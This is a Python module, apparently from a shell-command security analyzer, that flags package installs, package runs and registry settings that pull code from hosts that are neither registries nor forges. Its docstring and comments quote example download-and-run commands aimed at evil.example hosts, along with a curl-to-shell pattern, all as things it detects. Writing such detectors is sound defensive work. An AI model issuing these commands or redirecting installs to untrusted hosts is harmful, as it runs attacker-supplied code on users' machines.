"""Code installed from a host that is neither a package registry nor a code forge (``net.pipe_to_shell``).

An install runs what it fetches: npm's and pip's build and lifecycle scripts, cargo's ``build.rs``, a gem's
native extension, a Homebrew formula, a nix flake, a pre-commit hook, an ansible playbook. Fetching that from
``https://evil.example/x.tgz`` or from an index at ``pypi.evil.example`` is download-and-run by another
name, so it is denied like ``curl … | sh``. A registry or index of the ecosystem (``urls.PACKAGE_HOSTS``), a
forge (``github.com`` …) and the machine's own or a private network stay what Tier 2 makes of them (ask).

The same goes for settings that send every later install to such a host: ``npm config set registry URL``,
``pip config set global.index-url URL``, ``go env -w GOPROXY=URL``, ``gem sources --add URL``, ``conda
config --add channels URL``, ``bundle config mirror.… URL``, ``composer config repositories.x vcs URL``.

``INSTALLS`` is the table: program → (subcommand words, the options whose value is a source, whether
operands are sources too).
"""
from __future__ import annotations

import re
from typing import Final

from phlegyas.analysis.programs.popular_packages import known_bad
from phlegyas.analysis.shell.invocation import Invocation
from phlegyas.analysis.tier1.base import Out, add
from phlegyas.analysis.urls import foreign_code_host, host_of
from phlegyas.core.analysis import AnalysisEnv

_PIP: Final = ("-i", "--index-url", "--extra-index-url", "-f", "--find-links")
_NPM: Final = ("--registry",)
INSTALLS: Final[dict[str, tuple[tuple[tuple[str, ...], tuple[str, ...], bool], ...]]] = {
    "pip": ((("install",), _PIP, True), (("download",), _PIP, True), (("wheel",), _PIP, True)),
    "uv": ((("sync",), _PIP + ("--index", "--default-index"), False), (("lock",), _PIP + ("--index",), False),
           (("pip", "install"), _PIP + ("--index",), True), (("add",), ("--index", "--default-index") + _PIP, True),
           (("tool", "install"), _PIP + ("--index", "--from"), True),
           (("run",), ("--with", "--from", "--index"), True)),
    "pipx": ((("install",), ("--index-url", "--pip-args"), True), (("run",), ("--index-url", "--spec"), True)),
    "poetry": ((("add",), ("--source",), True), (("source", "add"), (), True)),
    "npm": ((("install",), _NPM, True), (("i",), _NPM, True), (("add",), _NPM, True), (("exec",), _NPM, True)),
    "pnpm": ((("add",), _NPM, True), (("install",), _NPM, True), (("i",), _NPM, True), (("dlx",), _NPM, True)),
    "yarn": ((("add",), _NPM, True), (("dlx",), _NPM, True), (("install",), _NPM, False)),
    "uvx": (((), _PIP + ("--index", "--from", "--with"), False),),
    "npx": (((), _NPM, False),),
    "bun": ((("add",), _NPM, True), (("install",), _NPM, True), (("i",), _NPM, True), (("x",), (), True)),
    "cargo": ((("install",), ("--git", "--index", "--registry"), False), (("add",), ("--git", "--registry"), False)),
    "gem": ((("install",), ("--source", "-s"), True),),
    "conda": ((("install",), ("-c", "--channel"), True), (("create",), ("-c", "--channel"), True)),
    "mamba": ((("install",), ("-c", "--channel"), True), (("create",), ("-c", "--channel"), True)),
    "micromamba": ((("install",), ("-c", "--channel"), True), (("create",), ("-c", "--channel"), True)),
    "brew": ((("tap",), (), True), (("install",), (), True)),
    "dotnet": ((("tool", "install"), ("--add-source", "--source"), False),
               (("add", "package"), ("-s", "--source"), False), (("add",), ("-s", "--source"), False)),
    "luarocks": ((("install",), ("--server", "--only-server", "--from"), True),),
    "nix": ((("run",), (), True), (("shell",), (), True), (("profile", "install"), (), True), (("develop",), (), True),
            (("build",), (), True)),
    "go": ((("install",), (), False), (("get",), (), False), (("run",), (), False),
           (("mod", "edit"), ("-replace", "--replace"), False)),  # `-replace old=evil.example/x@v1`: the new source
    "pre-commit": ((("try-repo",), (), True),),
    "ansible-pull": (((), ("-U", "--url"), False),),
    "ansible-galaxy": ((("install",), ("-s", "--server"), True), (("collection", "install"), ("-s", "--server"), True),
                       (("role", "install"), ("-s", "--server"), True)),
    "papermill": (((), (), True),),
    "helm": ((("repo", "add"), (), True), (("plugin", "install"), (), True), (("install",), ("--repo",), False),
             (("upgrade",), ("--repo",), False)),
    "composer": ((("config",), (), True),),
    "krew": ((("install",), ("--manifest-url",), False),),
}
_SETTINGS: Final[dict[str, tuple[tuple[str, ...], ...]]] = {
    # program → subcommand words after which a `KEY VALUE` or `KEY=VALUE` pair sets where installs come from
    "npm": (("config", "set"),), "pnpm": (("config", "set"),), "yarn": (("config", "set"),),
    "pip": (("config", "set"),), "pip3": (("config", "set"),), "go": (("env", "-w"),),
    "gem": (("sources", "--add"), ("sources", "-a")), "conda": (("config", "--add"),),
    "bundle": (("config", "set", "--global"), ("config", "set"), ("config",)), "composer": (("config",),),
    "poetry": (("config",),), "cargo": (),
}
_REGISTRIES: Final = {"cargo": "crates", "go": "go"}
_SOURCE_VARIABLES: Final = frozenset({"PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "UV_INDEX_URL",
                                     "UV_EXTRA_INDEX_URL", "UV_INDEX", "UV_DEFAULT_INDEX", "NPM_CONFIG_REGISTRY",
                                     "YARN_REGISTRY", "YARN_NPM_REGISTRY_SERVER", "BUN_CONFIG_REGISTRY", "GOPROXY",
                                     "CARGO_REGISTRIES_CRATES_IO_INDEX", "GEM_SOURCE", "CONDA_CHANNELS"})
_SOURCE_KEYS: Final = ("registry", "index-url", "extra-index-url", "index_url", "goproxy", "channels", "mirror.",
                       "npmregistryserver", "repositories.", "repositories", "find-links", "source")


def _subcommand(words: list[str], path: tuple[str, ...]) -> int:
    """The index after ``path`` when the command's words start with it (options before it skipped), else -1."""
    plain = [(i, w) for i, w in enumerate(words) if not w.startswith("-") or w in path]
    if len(plain) < len(path) or [w for _, w in plain[:len(path)]] != list(path):
        return -1
    return plain[len(path) - 1][0] + 1 if path else 0


def _foreign(spec: str) -> str | None:
    """The host of a source, when it is code from somewhere other than a registry, a forge or a private network."""
    text = spec.strip("'\"")
    for prefix in ("git+", "hg+", "svn+", "bzr+", "tarball+", "github:", "gitlab:"):
        if text.startswith(prefix) and "://" in text:
            text = text[len(prefix):]
    if "://" in text and "@" in text.split("://", 1)[0]:  # `name @ https://…` (pip) or `pkg@https://…` (npm)
        text = text.split("@", 1)[1].strip()
    if "://" not in text:
        return None
    _, host = host_of(text)
    return host if host is not None and foreign_code_host(host) else None


def detect_install_source(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """An install, a run of a package or a setting that fetches code from a host that is no registry or forge."""
    words = [w.text for w in inv.args]
    head = inv.command.words[0].text.rsplit("/", 1)[-1] if inv.command.words else ""
    if head == inv.program and len(inv.command.words) > len(words):  # a carrier's run (`pnpm dlx`) lost its path
        words = [w.text for w in inv.command.words[1:]]
    program = "pip" if inv.program in ("pip3", "python3 -m pip") else inv.program
    for name, value in inv.command.assignments:  # `PIP_INDEX_URL=https://pypi.evil.example/simple pip install x`
        host = _foreign(value.text) if name.upper() in _SOURCE_VARIABLES and not value.dynamic else None
        if host is not None and program in INSTALLS:
            add(out, "net.pipe_to_shell", inv, f"{name} sends {inv.program}'s installs to {host} (neither a package "
                "registry nor a code forge): what it serves runs as it installs")
            return
    for path, opts, operands in INSTALLS.get(program, ()):
        start = _subcommand(words, path)
        if start < 0:
            continue
        rest = words[start:]
        named = [t for i, t in enumerate(rest) if not t.startswith("-") and not (i and rest[i - 1] in opts)]
        if not path and not named:
            break  # `npx --registry X -v`: nothing is fetched or run
        sources = [v for i, t in enumerate(rest) for v in ([rest[i + 1]] if t in opts and i + 1 < len(rest) else
                                                           [t.split("=", 1)[1]] if t.split("=", 1)[0] in opts else [])]
        if operands:
            sources += [t.split("=", 1)[-1] for t in rest if not t.startswith("-")]
        sources += [t for t in rest if "://" in t and not t.startswith("-")]  # `go install …`, a URL anywhere
        for spec in sources:
            if program == "go":  # a module path names its host first: `evil.example/gin@v1.9.1`
                spec = spec.split("=", 1)[-1]
                head = spec.split("/", 1)[0]
                spec = "https://" + spec if re.fullmatch(r"[a-z0-9-]+(?:\.[a-z0-9-]+)+", head) else spec
            host = _foreign(spec)
            if host is not None:
                add(out, "net.pipe_to_shell", inv, f"{' '.join((inv.program, *path))} installs code from {host}, "
                    "which runs as it installs or builds (neither a package registry nor a code forge)")
                return
        break
    registry = _REGISTRIES.get(program)
    plain = [t for t in words if not t.startswith("-")]
    if registry is not None and plain[:1] and plain[0] in ("add", "install", "get"):
        for spec in plain[1:]:
            name, _, version = spec.partition("@")
            if known_bad(name, version, registry):
                add(out, "net.pipe_to_shell", inv, f"{inv.program} {plain[0]} {spec} installs a package that shipped "
                    "malware (the registry pulled it): it runs as it builds or installs")
                return
    for path in _SETTINGS.get(program, ()):
        start = _subcommand(words, path)
        if start < 0:
            continue
        pairs = words[start:]
        keyed = any(k in " ".join(pairs).lower() for k in _SOURCE_KEYS) or program in ("gem", "go")
        host = next((h for t in pairs if (h := _foreign(t.split("=", 1)[-1])) is not None), None)
        if keyed and host is not None:
            add(out, "net.pipe_to_shell", inv, f"{inv.program} {' '.join(path)} sends every later install to {host} "
                "(neither a package registry nor a code forge): what it serves runs as it installs")
            return


PROGRAMS: Final = frozenset(INSTALLS) | frozenset(_SETTINGS) | {"pip3"}

__all__ = ["INSTALLS", "PROGRAMS", "detect_install_source"]
